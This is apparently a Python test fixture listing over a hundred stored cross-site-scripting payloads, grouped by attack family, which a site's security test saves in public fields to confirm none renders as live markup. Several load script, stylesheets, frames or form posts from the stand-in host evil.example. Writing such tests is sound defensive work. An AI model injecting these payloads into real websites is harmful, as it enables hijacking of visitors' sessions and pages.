"""Stored cross-site-scripting attempts: text that staff (or an attacker with a staff login) could
type into any field the public site shows. tests/security/test_xss.py saves each one in every
such field and checks that none of it is live markup on the public pages.

Written for this site from the well-known families of attack; one payload a line, grouped by
family. A NUL character is left out: PostgreSQL refuses it in text, so it cannot be stored.
"""

XSS_PAYLOADS: list[str] = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script/xss src="//evil.example/x.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "</p><script>alert(1)</script><p>",
    # Ends a JSON-LD block early, if the structured data did not escape "<".
    '</script><script>alert(1)</script>{"@context":"x"}',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img src=x onerror\n=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<p onmouseover="alert(1)">Hover over this paragraph</p>',
    '<a href="https://example.org/" onclick="alert(1)">a link</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x onerror=\\u0061lert(1)>",
    # javascript: and other script URLs in HTML links, however spelt.
    '<a href="javascript:alert(1)">a link</a>',
    '<a href="JaVaScRiPt:alert(1)">a link</a>',
    '<a href="  javascript:alert(1)">a link</a>',
    '<a href="java\nscript:alert(1)">a link</a>',
    '<a href="java\tscript:alert(1)">a link</a>',
    '<a href="\x01javascript:alert(1)">a link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a link</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">a link</a>',
    '<a href="&#106avascript:alert(1)">a link</a>',
    '<a href="javascript&colon;alert(1)">a link</a>',
    '<a href="&#x0A;javascript:alert(1)">a link</a>',
    '<a href="javascript&#x09;:alert(1)">a link</a>',
    '<a href="\u2028javascript:alert(1)">a link</a>',
    '<a href="vbscript:msgbox(1)">a link</a>',
    '<a href="javascript:alert(1)',
    # javascript: in Markdown links, images, references and autolinks.
    "[a link](javascript:alert(1))",
    "[a link](JAVASCRIPT:alert(1))",
    "[a link](<javascript:alert(1)>)",
    "[a link](javascript&#58;alert(1))",
    '[a link](  javascript:alert(1) "a title")',
    "[a link](java%0ascript:alert(1))",
    "[a link][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![a picture](javascript:alert(1))",
    # data: URLs in links and images.
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a link</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src=" data:image/png;base64,iVBORw0KGgo=">',
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a picture](data:text/html,<script>alert(1)</script>)",
    "![a picture](DATA:image/svg+xml,<svg onload=alert(1)>)",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">a link</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='1' onerror='alert(1)'/>"
    '</svg>#x"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Frames, objects and embeds.
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # Styles: attributes, blocks, imported sheets.
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">styled</div>',
    "<style>body { display: none }</style>",
    '<STYLE>@import "https://evil.example/x.css";</STYLE>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Changing the page's base address or sending the reader elsewhere.
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    # Forms and buttons that post elsewhere or run script.
    '<form action="javascript:alert(1)"><button>Send</button></form>',
    '<button formaction="javascript:alert(1)">Send</button>',
    '<form><input type="submit" formaction="https://evil.example/"></form>',
    "<isindex action=javascript:alert(1) type=image>",
    # Malformed and unclosed markup.
    '<img src="x" onerror="alert(1)"',
    "<<img src=x onerror=alert(1)//<",
    '<img """><script>alert(1)</script>">',
    "<div><p>Unclosed <b>tags <script>alert(1)",
    "<a href='https://example.org/'>fine</a><a href=javascript:alert(1)>not fine",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # Comments, CDATA and processing instructions.
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<? echo "<script>alert(1)</script>" ?>',
    # Breaking out of a quoted attribute (alt text, titles, meta tags).
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a title=\'"><script>alert(1)</script>\' href="https://example.org/">a link</a>',
    '<img alt="\\" onerror=alert(1) \\"" src=x>',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '[a link](https://example.org/" onmouseover="alert(1))',
    '![a picture](https://example.org/a.png "a title\\" onerror=\\"alert(1)")',
    # Markdown extensions that add attributes or raw HTML blocks.
    '<div markdown="1"><script>alert(1)</script></div>',
    '## A heading {: onclick="alert(1)" style="color: red" }',
    '[a link](https://example.org/){: onclick="alert(1)" }',
    "```html\n<script>alert(1)</script>\n```",
    "*[HTML]: <script>alert(1)</script>\n\nSome HTML.",
    "A note[^1].\n\n[^1]: <script>alert(1)</script>",
    # Escapes in other notations, which must stay text.
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028</script><script>alert(1)</script>",
    '<a href="ja\u200bvascript:alert(1)">a link</a>',
]
